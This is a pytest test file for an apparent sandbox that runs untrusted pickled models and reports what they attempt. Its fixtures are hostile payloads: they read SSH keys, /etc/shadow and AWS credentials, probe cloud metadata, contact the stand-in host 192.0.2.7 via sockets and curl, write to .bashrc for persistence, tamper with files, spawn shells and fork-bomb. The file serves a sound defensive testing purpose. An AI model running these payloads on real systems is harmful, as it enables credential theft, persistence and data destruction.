"""Hostile models are watched and harm nothing: what they aim at is untouched, and it is told."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from modelarmor.generate.evidence import Observation
from modelarmor.generate.observe import session
from tests.generate.observe.support import TELL, TRY, model, rules, watched


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's own home, with a key in it and a start-up file."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("the real key")
    (home / ".bashrc").write_text("# mine\n")
    (home / "thesis.txt").write_text("ten years")
    monkeypatch.setenv("HOME", str(home))
    return home


def _done(observation: Observation) -> set[str]:
    """What the payload says that it could do. It has no reason to be modest."""
    _, marker, told = observation.error.partition("done:")
    assert marker, observation.error
    return set(told.split())


def test_a_thief_finds_canaries_and_nothing_real(tmp_path: Path, home: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "patients.csv").write_text("name")
    os.environ["MODELARMOR_TEST_SECRET"] = "inherited"
    try:
        stolen = watched(
            model(
                tmp_path / "thief.pkl",
                TRY
                + f"""
import os, socket, base64
from pathlib import Path
attempt("real-key", lambda: open({str(home / ".ssh" / "id_rsa")!r}).read())
attempt("real-file", lambda: open({str(home / "thesis.txt")!r}).read())
attempt("data", lambda: open({str(tmp_path / "data" / "patients.csv")!r}).read())
attempt("shadow", lambda: open("/etc/shadow").read())
attempt("parent", lambda: open(f"/proc/{{os.getppid()}}/environ").read())
attempt("canary", lambda: Path.home().joinpath(".aws/credentials").read_text())
attempt("connect", lambda: socket.create_connection(("192.0.2.7", 443), 1))
attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 1))
attempt("send", lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.7", 53)))
if "MODELARMOR_TEST_SECRET" in os.environ:
    done.append("environment")
key = os.environ["AWS_SECRET_ACCESS_KEY"]
Path("loot.bin").write_bytes(base64.b64encode(b"x" + key.encode()))
"""
                + TELL,
            )
        )
    finally:
        del os.environ["MODELARMOR_TEST_SECRET"]
    assert _done(stolen) == {"canary"}
    assert rules(stolen, "critical") >= {
        "canary-touched", "canary-leaked", "credentials-sought", "cloud-metadata",
    }  # fmt: skip
    assert "connected" in rules(stolen, "high")
    assert "192.0.2.7 port 443" in {finding.location for finding in stolen.findings}
    assert stolen.completed == ("start",)


def test_a_vandal_changes_nothing(tmp_path: Path, home: Path) -> None:
    victim = tmp_path / "elsewhere" / "file"
    victim.parent.mkdir()
    victim.write_text("whole")
    directory = tmp_path / "model"
    directory.mkdir()
    damage = watched(
        model(
            directory / "vandal.pkl",
            TRY
            + f"""
import os, shutil, signal
attempt("persist", lambda: open({str(home / ".bashrc")!r}, "a").write("evil"))
attempt("autostart", lambda: os.makedirs({str(home / ".config" / "autostart")!r}))
attempt("overwrite", lambda: open({str(victim)!r}, "w").write("broken"))
attempt("delete", lambda: os.unlink({str(victim)!r}))
attempt("rename", lambda: os.rename({str(victim)!r}, {str(victim)!r} + "2"))
attempt("chmod", lambda: os.chmod({str(victim)!r}, 0))
attempt("link", lambda: os.link({str(victim)!r}, "alias"))
attempt("tamper", lambda: open({str(directory / "vandal.pkl")!r}, "ab").write(b"x"))
attempt("add", lambda: open({str(directory / "more.py")!r}, "w"))
attempt("kill", lambda: os.kill({os.getpid()}, 0))
attempt("own-scratch", lambda: open("scratch.txt", "w").write("fine"))
"""
            + TELL,
        )
    )
    assert _done(damage) == {"own-scratch"}
    assert victim.read_text() == "whole" and victim.stat().st_mode & 0o400
    assert (home / ".bashrc").read_text() == "# mine\n" and not (home / ".config").exists()
    assert [entry.name for entry in directory.iterdir()] == ["vandal.pkl"]
    assert "persistence" in rules(damage, "critical")
    assert {"tampering", "write-refused"} <= rules(damage, "high")


def test_programs_are_not_started_and_are_told_with_their_arguments(tmp_path: Path) -> None:
    started = watched(
        model(
            tmp_path / "shell.pkl",
            TRY
            + """
import os, subprocess
attempt("shell", lambda: subprocess.run("echo gone > left.txt", shell=True, check=True))
attempt("system", lambda: os.stat("left.txt") if not os.system("echo gone > left.txt") else None)
attempt("curl", lambda: subprocess.run(["curl", "http://192.0.2.7/x"]))
memory = os.memfd_create("x")
os.write(memory, open("/usr/bin/env", "rb").read() if os.access("/usr/bin/env", 4) else b"")
"""
            + TELL,
        )
    )
    assert "shell" not in _done(started) and "curl" not in _done(started)
    shells = [f for f in started.findings if f.rule == "started-shell"]
    assert shells and "echo gone > left.txt" in shells[0].location
    assert shells[0].severity == "critical" and "T1059.004" in shells[0].techniques


def test_a_model_that_answers_for_its_loader_hides_nothing(tmp_path: Path, home: Path) -> None:
    """It can say that each phase ended; what it did then stands under the wrong one, and stands."""
    lied = watched(
        model(
            tmp_path / "liar.pkl",
            f"""
import json, os, sys
answers = range(3, 64)
for phase in ("load", "serve"):
    line = json.dumps({{"phase": phase, "predictions": 10 ** 9, "input": "anything"}}) + "\\n"
    for fd in answers:
        try:
            os.write(fd, line.encode())
        except OSError:
            pass
try:
    open({str(home / ".ssh" / "id_rsa")!r})
except OSError:
    pass
os._exit(0)
""",
        )
    )
    assert "credentials-sought" in rules(lied, "critical")
    assert lied.predictions <= 10**6 and lied.input == ""


def test_a_model_that_answers_for_its_loader_and_goes_on_is_told_so(tmp_path: Path) -> None:
    answered = watched(
        model(
            tmp_path / "liar.pkl",
            """
import os
line = b'{"phase": "load"}\\n{"phase": "serve", "predictions": 1, "input": "given"}\\n'
for fd in range(3, 64):
    try:
        os.write(fd, line)
    except OSError:
        pass
""",
        )
    )
    assert "nobody asked for" in answered.error
    assert "observation-incomplete" in rules(answered, "medium")


def test_what_a_model_does_as_it_ends_is_seen(tmp_path: Path, home: Path) -> None:
    ended = watched(
        model(
            tmp_path / "patient.pkl",
            f"import atexit\natexit.register(open, {str(home / '.ssh' / 'id_rsa')!r})\n",
        )
    )
    assert "credentials-sought" in rules(ended, "critical")


def test_a_model_that_does_not_end_is_told_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(session, "_GRACE", 1.0)
    stayed = watched(
        model(
            tmp_path / "stays.pkl",
            "import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()\n",
        )
    )
    assert "load" in stayed.completed and not stayed.error
    assert any("went on" in finding.detail for finding in stayed.findings)


@pytest.mark.parametrize(
    ("code", "says"),
    [
        ("import time\ntime.sleep(600)", "took too long"),
        ("import os\nos.kill(os.getpid(), 9)", "ended with"),
        ("import os\nos._exit(3)", "ended with 3"),
        ("import sys\nsys.stdout.write('{}' * 100000); sys.exit(1)", "SystemExit"),
        ("raise ValueError('x' * 10**7)", "ValueError"),
    ],
    ids=["hangs", "is-killed", "exits", "floods", "long-error"],
)
def test_one_that_does_not_end_well_is_told_so(tmp_path: Path, code: str, says: str) -> None:
    timeout = 15 if "sleep" in code else 60
    observation = watched(model(tmp_path / "m.pkl", code), timeout=timeout)
    assert says in observation.error and len(observation.error) < 5000
    assert "load" not in observation.completed
    assert "observation-incomplete" in rules(observation)


def test_a_glutton_reaches_its_limits(tmp_path: Path) -> None:
    """Processes are held at the limit of the watched model, not of the machine."""
    many = watched(
        model(
            tmp_path / "glutton.pkl",
            """
import os, time
children = 0
try:
    for _ in range(2000):
        pid = os.fork()
        if not pid:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass
raise RuntimeError("done: " + str(children))
""",
        ),
        timeout=60,
    )
    assert 0 < int(next(iter(_done(many)))) < 600
    assert "limit-reached" in rules(many)


def test_each_of_many_operations_is_listed_or_counted(tmp_path: Path) -> None:
    many = watched(
        model(
            tmp_path / "many.pkl",
            "for i in range(6000): open(chr(97 + i % 26) + 'q' * (i // 26) + '-x', 'w').close()",
        )
    )
    created = sum(
        event.count
        for event in many.events
        if event.operation.kind in ("create", "write") and "${TMP}" in event.operation.path
    )
    assert created + many.unlisted >= 6000
